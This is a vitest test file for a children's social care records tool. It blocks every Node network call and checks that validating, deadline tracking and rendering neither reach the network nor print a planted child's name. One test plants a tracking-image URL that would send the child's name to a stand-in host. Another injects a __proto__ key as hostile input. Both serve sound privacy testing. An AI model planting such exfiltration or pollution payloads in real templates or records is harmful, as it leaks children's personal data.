/**
 * Nothing leaves the machine. Records hold children's personal data: validating, tracking deadlines,
 * checking language and rendering must never open a socket or look a name up — not for a font, an
 * image in a template, a schema $ref, or a bank-holiday file. Every way Node has to reach the network
 * is replaced in this process with a recorder that refuses, then the real work runs in-process.
 *
 * And what is printed when something goes wrong holds no record content: with records that carry a
 * planted name, nothing written to stdout, stderr, console or process warnings mentions it.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createRequire, syncBuiltinESMExports } from "node:module";
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { shippedPath } from "../src/paths.js";
import { validateRecord } from "../src/rules/run-rules.js";
import { validateFiles } from "../src/validate/validate-files.js";
import { formatJson, formatText } from "../src/validate/format-text.js";
import { loadProfile, BUILT_IN_PROFILES } from "../src/profiles/load-profile.js";
import { createCalendar } from "../src/calendar/index.js";
import { checkLanguageInput } from "../src/language/check-input.js";
import * as fixtures from "./fixtures/records.js";

const require = createRequire(import.meta.url);
const attempts: string[] = [];
const restore: (() => void)[] = [];

/** Replaces `obj[key]` with a function that records the attempt and throws. */
function refuse(obj: Record<string, unknown>, key: string, label: string): void {
  const original = obj[key];
  if (typeof original !== "function") return;
  obj[key] = function refused(...args: unknown[]) {
    const target = args.map((a) => (typeof a === "string" ? a : a && typeof a === "object" ? JSON.stringify(a).slice(0, 120) : String(a))).join(" ");
    attempts.push(`${label}(${target})`);
    throw new Error(`network access refused in tests: ${label}`);
  };
  restore.push(() => {
    obj[key] = original;
  });
}

beforeAll(() => {
  const net = require("node:net");
  const tls = require("node:tls");
  const dns = require("node:dns");
  const http = require("node:http");
  const https = require("node:https");
  const http2 = require("node:http2");
  const dgram = require("node:dgram");
  refuse(net.Socket.prototype, "connect", "net.Socket#connect");
  refuse(net, "connect", "net.connect");
  refuse(net, "createConnection", "net.createConnection");
  refuse(tls, "connect", "tls.connect");
  for (const k of ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveTxt"]) refuse(dns, k, `dns.${k}`);
  for (const k of ["lookup", "resolve", "resolve4", "resolve6"]) refuse(dns.promises, k, `dns.promises.${k}`);
  for (const k of ["request", "get"]) {
    refuse(http, k, `http.${k}`);
    refuse(https, k, `https.${k}`);
  }
  refuse(http2, "connect", "http2.connect");
  refuse(dgram, "createSocket", "dgram.createSocket");
  refuse(globalThis as unknown as Record<string, unknown>, "fetch", "fetch");
  if (typeof WebSocket !== "undefined") refuse(globalThis as unknown as Record<string, unknown>, "WebSocket", "WebSocket");
  // ESM `import { request } from "node:http"` bindings follow the CommonJS object only after this.
  syncBuiltinESMExports();
});

afterAll(() => {
  for (const r of restore.reverse()) r();
  syncBuiltinESMExports();
});

/**
 * Every example record file (examples/<authority>/*.json and examples/invalid/), walked; not
 * examples/readme/, which holds the README's profiles and draft beside records.
 */
function exampleFiles(dir = shippedPath("examples")): string[] {
  const out: string[] = [];
  for (const e of readdirSync(dir).sort()) {
    const p = join(dir, e);
    if (statSync(p).isDirectory()) {
      if (p !== shippedPath("examples", "readme")) out.push(...exampleFiles(p));
    } else if (e.endsWith(".json") && !e.endsWith(".findings.json")) out.push(p);
  }
  return out;
}

const calendar = createCalendar({ onWarning: () => {} });
const AS_OF = "2026-11-23";
const ALL_FIXTURES = [
  fixtures.lookedAfterReview, fixtures.cpConference, fixtures.cpPlan, fixtures.escalation, fixtures.goodPracticeNote,
  fixtures.qaProgressReview, fixtures.significantChange, fixtures.concernNote, fixtures.caseFile,
];

describe("nothing leaves the machine", () => {
  it("the guard itself works: a fetch, a socket and a DNS lookup are each refused and recorded", async () => {
    const net = require("node:net");
    const dns = require("node:dns");
    expect(() => fetch("https://example.org")).toThrow(/refused/);
    expect(() => net.createConnection(443, "example.org")).toThrow(/refused/);
    expect(() => new net.Socket().connect(443, "example.org")).toThrow(/refused/);
    expect(() => dns.lookup("example.org", () => {})).toThrow(/refused/);
    const { request } = await import("node:https");
    expect(() => request("https://example.org")).toThrow(/refused/);
    expect(attempts.length).toBe(5);
    attempts.length = 0;
  });

  it("validating every example and fixture, under every built-in profile, opens no socket", () => {
    const records = [...exampleFiles().map((f) => JSON.parse(readFileSync(f, "utf8")) as unknown), ...ALL_FIXTURES.map((m) => m())];
    expect(records.length).toBeGreaterThan(ALL_FIXTURES.length - 1);
    for (const id of BUILT_IN_PROFILES) {
      for (const r of records) validateRecord(r, { profile: loadProfile(id), asOf: AS_OF, calendar });
    }
    const result = validateFiles([shippedPath("examples")], { asOf: AS_OF, calendar });
    formatText(result);
    formatJson(result);
    expect(attempts).toEqual([]);
  });

  it("checking language and tracking deadlines opens no socket", async () => {
    const dir = mkdtempSync(join(tmpdir(), "reviewkit-net-"));
    try {
      const file = join(dir, "review.json");
      writeFileSync(file, JSON.stringify(fixtures.lookedAfterReview()));
      checkLanguageInput(file, { profile: "knowsley" });
      const { deadlinesForFiles } = await import("../src/timeline/index.js");
      deadlinesForFiles([shippedPath("examples")], { asOf: AS_OF, calendar });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    expect(attempts).toEqual([]);
  });

  it("rendering an example case file (every record in it) to DOCX, PDF and HTML opens no socket", async () => {
    const { renderFiles } = await import("../src/render/index.js");
    const out = mkdtempSync(join(tmpdir(), "reviewkit-net-out-"));
    try {
      const result = await renderFiles(exampleFiles().slice(0, 1), { outDir: out, formats: ["docx", "pdf", "html"], calendar });
      expect(result.written.length).toBeGreaterThan(0);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
    expect(attempts).toEqual([]);
  }, 120_000);

  it("a template that points at a web image does not fetch it", async () => {
    const { renderDocument } = await import("../src/render/index.js");
    const templates = mkdtempSync(join(tmpdir(), "reviewkit-net-tpl-"));
    try {
      const shipped = readFileSync(shippedPath("templates", "good-practice-note.md"), "utf8");
      writeFileSync(join(templates, "good-practice-note.md"), `${shipped}\n\n![logo](https://tracker.example.org/pixel.png?child={{record.child.name}})\n`);
      for (const format of ["docx", "pdf", "html"] as const) {
        try {
          await renderDocument(fixtures.goodPracticeNote(), "good-practice-note", format, { templatesDir: templates, calendar });
        } catch {
          // Refusing the template is a fine answer too; reaching out is not.
        }
      }
    } finally {
      rmSync(templates, { recursive: true, force: true });
    }
    expect(attempts).toEqual([]);
  }, 60_000);
});

describe("no record content in messages and logs", () => {
  const MARKER = "Zephyrine Quaglia";
  let captured: string[] = [];
  const originals = { out: process.stdout.write, err: process.stderr.write, warn: process.emitWarning, log: console.log, error: console.error, cwarn: console.warn };

  function capture(): void {
    captured = [];
    const grab = (s: unknown) => void captured.push(typeof s === "string" ? s : String(s));
    process.stdout.write = ((s: unknown) => (grab(s), true)) as typeof process.stdout.write;
    process.stderr.write = ((s: unknown) => (grab(s), true)) as typeof process.stderr.write;
    process.emitWarning = ((w: unknown) => grab(w instanceof Error ? w.message : w)) as typeof process.emitWarning;
    console.log = console.error = console.warn = (...a: unknown[]) => grab(a.map(String).join(" "));
  }
  function release(): void {
    process.stdout.write = originals.out;
    process.stderr.write = originals.err;
    process.emitWarning = originals.warn;
    console.log = originals.log;
    console.error = originals.error;
    console.warn = originals.cwarn;
  }

  /** Records with the marker as the child's name and in free text, each broken in a different way. */
  function markedBadRecords(dir: string): string[] {
    const files: Record<string, string> = {};
    const marked = <T extends { child?: { name: string } }>(r: T): T => {
      if (r.child) r.child.name = MARKER;
      return r;
    };
    const lar = marked(fixtures.lookedAfterReview());
    files["late.json"] = JSON.stringify({ ...lar, minutes: { completedOn: "2027-03-01", sentOn: "2027-03-01" } });
    files["impossible.json"] = JSON.stringify({ ...lar, reviewDate: "2026-02-30" });
    files["wrong-type.json"] = JSON.stringify({ ...lar, legalStatus: MARKER, decisions: MARKER });
    files["unknown-field.json"] = JSON.stringify({ ...lar, notes: MARKER });
    files["unknown-type.json"] = JSON.stringify({ ...lar, recordType: "letter", note: MARKER });
    files["truncated.json"] = JSON.stringify(lar).slice(0, 300);
    files["proto.json"] = JSON.stringify(lar).replace("{", `{"__proto__":{"name":"${MARKER}"},`);
    const cp = marked(fixtures.cpConference() as unknown as { child?: { name: string } }) as unknown as ReturnType<typeof fixtures.cpConference>;
    cp.children[0]!.name = MARKER;
    files["cp.json"] = JSON.stringify({ ...cp, minutes: { readyOn: "2027-02-01", distributedOn: "2027-02-01" } });
    const esc = marked(fixtures.escalation());
    esc.concern = MARKER;
    files["escalation.json"] = JSON.stringify(esc);
    for (const [n, body] of Object.entries(files)) writeFileSync(join(dir, n), body);
    return Object.keys(files).map((n) => join(dir, n));
  }

  it("validation findings, failure lines, reports and warnings never name the child", () => {
    const dir = mkdtempSync(join(tmpdir(), "reviewkit-leak-"));
    try {
      const files = markedBadRecords(dir);
      capture();
      let text = "";
      try {
        // A far-future as-of crosses the bank-holiday horizon, so warnings are exercised too.
        for (const asOf of [AS_OF, "2031-06-01"]) {
          const r = validateFiles(files, { asOf, profile: "knowsley" });
          text += formatText(r) + formatJson(r) + r.failures.map((f) => f.line).join("\n");
          expect(r.failures.length + r.files.length).toBe(files.length);
        }
      } finally {
        release();
      }
      expect(text + captured.join("")).not.toContain("Zephyrine");
      expect(text + captured.join("")).not.toContain("Quaglia");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("a key that holds record content (a name typed as a field name) is not echoed in the finding's path", () => {
    const dir = mkdtempSync(join(tmpdir(), "reviewkit-leak-k-"));
    try {
      const file = join(dir, "key.json");
      writeFileSync(file, JSON.stringify({ ...fixtures.lookedAfterReview(), [MARKER]: "x", childViews: { ...fixtures.lookedAfterReview().childViews, [`${MARKER} said`]: "x" } }));
      const r = validateFiles([file], { asOf: AS_OF });
      const out = formatText(r) + formatJson(r);
      expect(out).toContain("A field that is not part of");
      expect(out).not.toContain("Zephyrine");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("render failures name the file and record id, never the child", async () => {
    const { renderFiles } = await import("../src/render/index.js");
    const dir = mkdtempSync(join(tmpdir(), "reviewkit-leak-r-"));
    const out = mkdtempSync(join(tmpdir(), "reviewkit-leak-o-"));
    try {
      const files = markedBadRecords(dir);
      capture();
      let lines = "";
      try {
        const r = await renderFiles(files, { outDir: out, formats: ["html"], profile: "knowsley", calendar });
        lines = [...r.failures, ...r.skipped].map((f) => f.line).join("\n");
      } finally {
        release();
      }
      expect(lines + captured.join("")).not.toContain("Zephyrine");
      expect(lines + captured.join("")).not.toContain("Quaglia");
    } finally {
      rmSync(dir, { recursive: true, force: true });
      rmSync(out, { recursive: true, force: true });
    }
  }, 60_000);
});
